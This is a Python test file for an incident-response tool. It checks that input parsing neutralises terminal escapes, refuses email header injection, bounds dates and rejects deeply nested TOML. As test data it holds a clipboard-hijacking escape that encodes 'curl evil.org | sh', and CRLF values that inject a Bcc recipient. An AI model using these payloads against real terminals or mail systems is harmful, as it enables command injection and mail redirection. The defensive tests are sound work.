"""Hostile text at the door: one-line values refuse control characters, output shows them,
times outside 1970–2100 and absurdly nested TOML are clean errors (exit 2), not crashes."""

from __future__ import annotations

from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from breachkit.core.errors import InputError
from breachkit.core.incident.parse import parse_incident_text
from breachkit.core.organisation.profile import parse_organisation_text
from breachkit.core.playbooks import parse_playbook
from breachkit.core.playbooks.model import ID_PATTERN
from breachkit.core.text import display, email_problem, line_problem
from breachkit.core.times import TimeValueError, parse_instant

LUX = ZoneInfo("Europe/Luxembourg")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLm9yZyB8IHNo\x07"
TITLE_ESC = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"


# -- display: what a terminal may receive ---------------------------------------------------


@pytest.mark.parametrize("hostile", [OSC52, TITLE_ESC, CLEAR, "a\x9bb", "x\x7fy", "\r", "\x00"])
def test_display_never_returns_a_control_character(hostile: str) -> None:
    shown = display(f"before {hostile} after")
    assert not any(ord(c) < 0x20 and c not in "\t\n" for c in shown)
    assert not any(0x7F <= ord(c) < 0xA0 for c in shown)
    assert "before" in shown and "after" in shown


def test_display_shows_escape_as_a_visible_symbol() -> None:
    assert display("a\x1b[2Jb") == "a␛[2Jb"
    assert display("line one\n\tline two") == "line one\n\tline two"  # free text keeps layout
    assert display("one\ntwo", one_line=True) == "one␊two"
    assert display("abc\u202etxt.exe") == "abc<U+202E>txt.exe"  # bidi override made visible


@given(st.text())
def test_display_output_is_always_terminal_safe(text: str) -> None:
    shown = display(text)
    assert "\x1b" not in shown and "\r" not in shown and "\x9b" not in shown
    assert all(ord(c) >= 0x20 or c in "\t\n" for c in shown)


# -- one-line values ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("Acme\r\nBcc: leak@evil.org", "one line"),
        ("Acme\nBcc: x", "one line"),
        (f"Acme{TITLE_ESC}", "control character"),
        ("Acme\u2028x", "one line"),
        ("Acme\u202e", "text-direction"),
        ("a\tb", "tab"),
        ("x" * 1001, "longer than"),
    ],
)
def test_a_one_line_value_refuses_what_cannot_belong(value: str, why: str) -> None:
    problem = line_problem(value)
    assert problem is not None and why in problem


def test_ordinary_names_are_one_line_values() -> None:
    for name in ("Zoë Ørsted-Lefèvre", "O'Brien & Söhne GmbH", "株式会社", "Ελληνικά"):
        assert line_problem(name) is None


@pytest.mark.parametrize(
    "address", ["a@b.lu\n", "a@b.lu\r\nBcc: x@y.z", "a@b.lu, c@d.lu", "<a@b.lu>", "a@b.lu\x00"]
)
def test_an_address_that_could_hide_a_second_recipient_is_refused(address: str) -> None:
    assert email_problem(address)


def test_a_playbook_id_with_a_trailing_line_break_is_not_an_id() -> None:
    assert ID_PATTERN.match("isolate-hosts")
    assert not ID_PATTERN.match("isolate-hosts\n")


# -- the incident file and the profile -----------------------------------------------------------

INCIDENT = 'title = "{title}"\ntimezone = "Europe/Luxembourg"\naware_at = "{aware}"\n'


def test_an_incident_title_with_an_escape_is_refused_naming_the_key() -> None:
    text = INCIDENT.format(title="Ransomware\\u001b]0;pwned\\u0007", aware="2026-11-19T11:30")
    with pytest.raises(InputError) as caught:
        parse_incident_text(text, "incident.toml")
    problem = caught.value.problems[0]
    assert (problem.key, problem.line) == ("title", 1)
    assert "control character" in problem.message


def test_a_summary_keeps_its_text_and_is_shown_neutralised() -> None:
    text = INCIDENT.format(title="x", aware="2026-11-19T11:30") + 'summary = "a\\u001b[2Jb"\n'
    facts = parse_incident_text(text, "incident.toml").facts
    assert facts.summary == "a\x1b[2Jb"
    assert display(facts.summary) == "a␛[2Jb"


@pytest.mark.parametrize(
    "key", ["name", "registration", "sector", "website"], ids=lambda k: f"organisation.{k}"
)
def test_an_organisation_value_with_a_line_break_is_refused(key: str) -> None:
    text = f'[organisation]\n{key} = "Acme\\r\\nBcc: leak@evil.org"\n'
    with pytest.raises(InputError) as caught:
        parse_organisation_text(text, "organisation.toml")
    problem = caught.value.problems[0]
    assert problem.key == f"organisation.{key}" and "one line" in problem.message


def test_a_dpo_address_with_a_second_recipient_is_refused() -> None:
    text = '[organisation]\nname = "Acme"\n[dpo]\nemail = "dpo@acme.lu\\nBcc: x@evil.org"\n'
    with pytest.raises(InputError) as caught:
        parse_organisation_text(text, "organisation.toml")
    assert caught.value.problems[0].key == "dpo.email"


def test_an_address_line_with_an_escape_is_refused() -> None:
    text = '[organisation]\nname = "Acme"\naddress = ["1 rue X", "L-1234 \\u001b[2J"]\n'
    with pytest.raises(InputError):
        parse_organisation_text(text, "organisation.toml")


def test_a_playbook_title_with_a_line_break_is_refused() -> None:
    text = (
        'id = "x"\ntitle = "A\\nB"\nversion = 1\n[[phase]]\nid = "p"\ntitle = "P"\n'
        '[[step]]\nid = "s"\ntitle = "S"\nphase = "p"\nowner = "dpo"\nguidance = "g"\n'
    )
    with pytest.raises(InputError) as caught:
        parse_playbook(text, "x.toml")
    assert any(p.key == "title" for p in caught.value.problems)


# -- times: 1970 to 2100 -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "9999-12-31T23:59",
        "0001-01-01T00:00",
        "0001-01-01T00:00+14:00",
        "1969-12-31T23:59Z",
        "1970-01-01T00:30",  # 23:30 UTC the day before, in Luxembourg
        "2101-01-01T00:00Z",
    ],
)
def test_a_time_outside_1970_to_2100_is_refused(text: str) -> None:
    with pytest.raises(TimeValueError, match="1970 to 2100"):
        parse_instant(text, LUX)


@pytest.mark.parametrize(
    ("text", "utc"),
    [
        ("1970-01-01T00:00Z", "1970-01-01T00:00:00+00:00"),
        ("2100-12-31T23:59:59Z", "2100-12-31T23:59:59+00:00"),
        ("2026-03-29T03:30", "2026-03-29T01:30:00+00:00"),  # summer time, just begun
    ],
)
def test_a_time_inside_the_window_is_read(text: str, utc: str) -> None:
    assert parse_instant(text, LUX).instant.isoformat() == utc


@pytest.mark.parametrize("aware", ["9999-12-31T23:59", "0001-01-01T00:00"])
def test_an_incident_file_with_a_far_time_is_refused_at_the_door(aware: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_incident_text(INCIDENT.format(title="x", aware=aware), "incident.toml")
    assert caught.value.problems[0].key == "aware_at"


def test_a_toml_datetime_far_in_the_future_is_refused() -> None:
    text = 'title = "x"\ntimezone = "UTC"\naware_at = 9999-12-31T23:59:00Z\n'
    with pytest.raises(InputError):
        parse_incident_text(text, "incident.toml")


# -- nesting ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("opening", ["[", "{a="])
def test_toml_nested_5000_deep_is_a_clean_error(opening: str) -> None:
    closing = "]" if opening == "[" else "}"
    text = 'title = "x"\naware_at = "2026-01-01T00:00Z"\nsummary = ' + opening * 5000
    text += "1" + closing * 5000 + "\n"
    with pytest.raises(InputError, match="nested too deeply"):
        parse_incident_text(text, "deep.toml")
    with pytest.raises(InputError, match="nested too deeply"):
        parse_organisation_text(text, "deep.toml")
    with pytest.raises(InputError, match="nested too deeply"):
        parse_playbook(text, "deep.toml")
